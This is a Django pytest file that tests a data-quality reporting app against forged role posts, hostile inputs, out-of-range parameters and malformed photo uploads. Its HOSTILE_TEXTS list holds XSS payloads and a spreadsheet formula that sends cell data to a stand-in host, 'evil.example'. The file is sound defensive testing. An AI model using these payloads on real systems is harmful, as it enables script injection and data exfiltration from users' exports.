"""Attacks on the data-quality surfaces (issue 23): forged posts as every role, hostile text
and numbers, the export's formula cells. Nothing answers 500, nothing is half-written, and no
flagged report is approved before the office examined its flags."""

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from core.params import YEAR_MAX, YEAR_MIN
from investment.models import MonthlyReport, QualityFlag
from tests.builders import year_settings
from tests.investment.test_quality_pages import county, the_flag  # noqa: F401  (fixture)

pytestmark = pytest.mark.django_db(transaction=False)


def _state(flag):
    flag.refresh_from_db()
    return (flag.status, flag.explanation, flag.note, flag.version)


@pytest.mark.parametrize(
    "who", ["other_reporter", "leader", "auditor", "admin", "supervisor", "security", "newcomer"]
)
def test_nobody_but_the_unit_and_the_office_explains_a_flag(client, county, who):  # noqa: F811
    flag = the_flag()
    before = _state(flag)
    client.force_login(getattr(county, who))
    response = client.post(
        reverse("flag_explain", args=[flag.pk]), {"explanation": "伪造", "version": flag.version}
    )
    assert response.status_code in (302, 403, 404)
    assert _state(flag) == before


@pytest.mark.parametrize(
    "who",
    ["reporter", "other_reporter", "leader", "auditor", "admin", "supervisor", "security"],
)
def test_only_the_office_accepts_a_flag(client, county, who):  # noqa: F811
    flag = the_flag()
    before = _state(flag)
    client.force_login(getattr(county, who))
    response = client.post(
        reverse("flag_accept", args=[flag.pk]), {"note": "伪造", "version": flag.version}
    )
    assert response.status_code in (302, 403, 404)
    assert _state(flag) == before


@pytest.mark.parametrize("scope", ["report", "shown"])
def test_a_flagged_report_posted_to_the_bulk_approve_stays_submitted(client, county, scope):  # noqa: F811
    client.force_login(county.officer)
    report = the_flag().report
    client.post(
        reverse("reports_approve", args=[2024, 5]),
        {"scope": "all" if scope == "shown" else "", scope: [report.pk]},
    )
    client.post(reverse("report_approve", args=[report.pk]))
    report.refresh_from_db()
    assert report.status == "submitted"


def test_two_tabs_accepting_the_same_flag_the_second_is_refused(client, county):  # noqa: F811
    flag = the_flag()
    version = flag.version
    client.force_login(county.officer)
    client.post(reverse("flag_accept", args=[flag.pk]), {"note": "甲", "version": version})
    page = client.post(
        reverse("flag_accept", args=[flag.pk]), {"note": "乙", "version": version}, follow=True
    )
    assert page.status_code == 200
    assert _state(flag)[2] == "甲"


HOSTILE_TEXTS = [
    "说" * 100_000,
    "本月\x00支付",
    "\x00",
    '<script>alert("x")</script><img src=x onerror=alert(1)>',
    '=HYPERLINK("http://evil.example/?"&A1,"点此")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
]


@pytest.mark.parametrize("text", HOSTILE_TEXTS, ids=range(len(HOSTILE_TEXTS)))
def test_hostile_说明_and_核实意见_never_500(client, county, text):  # noqa: F811
    flag = the_flag()
    client.force_login(county.reporter)
    response = client.post(
        reverse("flag_explain", args=[flag.pk]), {"explanation": text, "version": flag.version}
    )
    assert response.status_code == 302
    flag.refresh_from_db()
    assert "\x00" not in flag.explanation
    client.force_login(county.officer)
    response = client.post(
        reverse("flag_accept", args=[flag.pk]), {"note": text, "version": flag.version}
    )
    assert response.status_code == 302
    flag.refresh_from_db()
    assert "\x00" not in flag.note
    for url in (
        reverse("review_month", args=[2024, 5]) + "?status=all",
        reverse("report_quality", args=[flag.report_id]),
        reverse("quality_flags") + "?year=2024&month=5",
    ):
        page = client.get(url)
        assert page.status_code == 200
        assert b"<script>alert" not in page.content
    export = client.get(reverse("quality_flags") + "?year=2024&month=5&format=xlsx")
    assert export.status_code == 200
    sheet = load_workbook(io.BytesIO(export.content)).active
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", cell.value


def test_报送确认_with_a_nul_说明_never_500(client, county):  # noqa: F811
    report = MonthlyReport.objects.get(pk=the_flag().report_id)
    client.force_login(county.officer)
    client.post(reverse("report_return", args=[report.pk]), {"reason": "请核实"})
    report.refresh_from_db()
    flags = list(QualityFlag.objects.filter(report=report))
    client.force_login(county.reporter)
    form = {"report": [report.pk], f"version-{report.pk}": report.version,
            "flag": [f.pk for f in flags]}  # fmt: skip
    form.update({f"explain-{f.pk}": "付款\x00" for f in flags})
    response = client.post(reverse("report_send", args=[2024, 5]), form)
    assert response.status_code in (200, 302)
    assert all("\x00" not in f.explanation for f in QualityFlag.objects.all())
    assert {f.explanation for f in QualityFlag.objects.filter(report=report)} == {"付款"}


THRESHOLDS = ["-1", "NaN", "sNaN", "Infinity", "1e308", "9" * 400, "²", "１０", "1e-400",
              "9999.999", " 5 ", "0x10", "5\x00", "" ]  # fmt: skip


HOSTILE_YEARS = [f"{YEAR_MIN - 1}", f"{YEAR_MAX + 1}", "99999999999999999999", "-1", "²"]


@pytest.mark.parametrize("value", THRESHOLDS, ids=range(len(THRESHOLDS)))
def test_hostile_thresholds_never_500(client, county, value):  # noqa: F811
    from investment.models import QualityRule

    client.force_login(county.officer)
    codes = QualityRule.Code.values
    form = {"rule-TOTAL_FORMS": len(codes), "rule-INITIAL_FORMS": len(codes),
            "rule-MIN_NUM_FORMS": 0, "rule-MAX_NUM_FORMS": 1000}  # fmt: skip
    for index, code in enumerate(codes):
        form.update({f"rule-{index}-rule": code, f"rule-{index}-version": 0,
                     f"rule-{index}-enabled": "on", f"rule-{index}-threshold": value})  # fmt: skip
    # the year the page saves, and one of the hostile years in turn: which year the query
    # names is read before the form, the same for every threshold
    for year in ("2024", HOSTILE_YEARS[THRESHOLDS.index(value) % len(HOSTILE_YEARS)]):
        response = client.post(reverse("quality_rules") + f"?year={year}", form)
        assert response.status_code in (200, 302)
        assert client.get(reverse("quality_rules") + f"?year={year}").status_code == 200


GETS = [
    ("report_current", "?period=2026-²"), ("report_current", "?period=-1-13"),
    ("report_current", "?period=" + "9" * 5000), ("report_current", "?period=%00"),
    ("report_current", "?period=2026-9&unit=%00"), ("report_current", "?period=2026-0"),
    ("report_current", f"?period={YEAR_MIN - 1}-5"), ("report_current", f"?period={YEAR_MAX + 1}-1"),
    ("report_current", "?period=2026-9&unit=99999999999999999999"),
    ("quality_flags", "?year=abc&month=13"), ("quality_flags", f"?year={YEAR_MIN - 1}&month=0"),
    ("quality_flags", f"?year={YEAR_MAX + 1}&month=5&unit=x&rule=%00&status=<b>"),
    ("quality_flags", "?year=2024&month=5&unit=99999999999999999999&format=xlsx"),
    ("quality_flags", "?year=2024&month=5&per_page=-1&page=99999999999999999999"),
    ("overruns", "?year=%00&month=²&kind=x&level=y&unit=z"),
    ("overruns", "?year=2024&month=5&per_page=0&page=-1&sort=%00"),
    ("overruns", "?year=2024&month=5&per_page=99999999999999999999&sort=nonexistent"),
    ("overruns", "?year=99999&month=5&format=xlsx"),
    ("year_settings", "?year=99999999999999999999"),
    ("quality_rules", "?year=%00"),
]  # fmt: skip


@pytest.mark.parametrize("who", ["reporter", "officer", "leader", "auditor", "supervisor"])
def test_hostile_query_strings_never_500(client, county, who):  # noqa: F811
    client.force_login(getattr(county, who))
    for name, query in GETS:
        response = client.get(reverse(name) + query, follow=True)
        assert response.status_code in (200, 403, 404), (name, query, response.status_code)


@pytest.mark.parametrize(
    "args", [(2024, 13), (2024, 0), (YEAR_MIN - 1, 5), (YEAR_MAX + 1, 5), (99999, 5)]
)
def test_report_send_and_quality_out_of_range(client, county, args):  # noqa: F811
    client.force_login(county.reporter)
    assert client.get(reverse("report_send", args=args)).status_code in (200, 404)
    assert client.post(reverse("report_send", args=args), {"report": ["x"]}).status_code in (
        200, 302, 404)  # fmt: skip
    assert client.get(reverse("report_quality", args=[2**63])).status_code == 404
    assert client.post(reverse("flag_explain", args=[2**63]), {}).status_code == 404


def test_another_units_reporter_cannot_send_a_report_through_报送确认(client, county):  # noqa: F811
    report = MonthlyReport.objects.get(pk=the_flag().report_id)
    client.force_login(county.officer)
    client.post(reverse("report_return", args=[report.pk]), {"reason": "请核实"})
    report.refresh_from_db()
    flags = list(QualityFlag.objects.filter(report=report))
    client.force_login(county.other_reporter)
    form = {"report": [report.pk], f"version-{report.pk}": report.version,
            "flag": [f.pk for f in flags]}  # fmt: skip
    form.update({f"explain-{f.pk}": "伪造" for f in flags})
    response = client.post(reverse("report_send", args=[2024, 5]), form)
    assert response.status_code in (200, 302, 403)
    report.refresh_from_db()
    assert report.status == "returned"
    assert all(f.explanation != "伪造" for f in QualityFlag.objects.filter(report=report))


@pytest.mark.parametrize("day", ["-1", "²", "1e3", "NaN", "9" * 40, "\x00", "20.5", ""])
def test_a_hostile_报送开始日_is_refused_without_500(client, county, day):  # noqa: F811
    from investment.models import YearSettings

    form = {"year": 2026, "version": 0, "action": "save", **year_settings(submit_start_day=day)}
    client.force_login(county.officer)
    assert client.post(reverse("year_settings"), form).status_code == 200
    assert not YearSettings.objects.filter(year=2026).exists()


def _image(fmt: str, colour=(200, 30, 30), size=(320, 240), **options) -> bytes:
    from PIL import Image, ImageDraw

    image = Image.new("RGB", size, colour)
    ImageDraw.Draw(image).rectangle((40, 40, 200, 160), fill=(10, 200, 40))
    buffer = io.BytesIO()
    image.save(buffer, format=fmt, **options)
    return buffer.getvalue()


def _exif(date_text: str) -> bytes:
    from PIL import Image

    exif = Image.Exif()
    exif[306] = date_text
    return exif.tobytes()


PHOTOS = {
    "png renamed": lambda: _image("PNG"),
    "gif renamed": lambda: _image("GIF"),
    "exif 0000": lambda: _image("JPEG", exif=_exif("0000:00:00 00:00:00")),
    "exif 9999": lambda: _image("JPEG", exif=_exif("9999:99:99 99:99:99")),
    "malformed exif": lambda: (
        lambda data: data[:2] + b"\xff\xe1\x00\x10Exif\x00\x00II*\x00\xff\xff" + data[2:]
    )(_image("JPEG")),
    "not an image": lambda: b"GIF89a" + b"\x00" * 100,
}


@pytest.mark.parametrize("kind", list(PHOTOS))
def test_a_hostile_photo_upload_never_500(client, county, kind):  # noqa: F811
    from django.core.files.uploadedfile import SimpleUploadedFile

    report = MonthlyReport.objects.get(pk=the_flag().report_id)
    client.force_login(county.reporter)
    upload = SimpleUploadedFile("现场.jpg", PHOTOS[kind](), content_type="image/jpeg")
    response = client.post(reverse("report_photos", args=[report.pk]), {"photo": upload})
    assert response.status_code in (200, 302)


def test_the_same_photo_resaved_on_another_report_is_flagged_photo_reused(client, county):  # noqa: F811
    from django.core.files.uploadedfile import SimpleUploadedFile

    first, second = MonthlyReport.objects.filter(month=5).order_by("pk")[:2]
    client.force_login(county.reporter)
    original = _image("JPEG", quality=95)
    resaved = _image("JPEG", quality=60, size=(300, 225))
    for report, data in ((first, original), (second, resaved)):
        upload = SimpleUploadedFile("现场.jpg", data, content_type="image/jpeg")
        assert client.post(
            reverse("report_photos", args=[report.pk]), {"photo": upload}
        ).status_code in (200, 302)
    assert QualityFlag.objects.filter(report=second, rule="photo_reused").exists()
